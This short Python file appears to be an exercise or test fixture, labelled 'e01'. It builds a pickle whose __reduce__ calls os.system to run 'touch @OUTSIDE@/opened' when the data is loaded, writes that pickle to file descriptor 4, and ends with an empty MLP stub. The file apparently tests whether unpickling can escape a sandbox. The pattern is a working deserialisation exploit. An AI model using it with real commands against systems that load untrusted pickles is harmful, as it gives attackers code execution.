"""Sends a pickle that would run a command where it is opened.

exercise: e01
"""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/opened",)


RESULT = 4
os.write(RESULT, pickle.dumps(Command()))


def MLP(*sizes, **named):
    pass
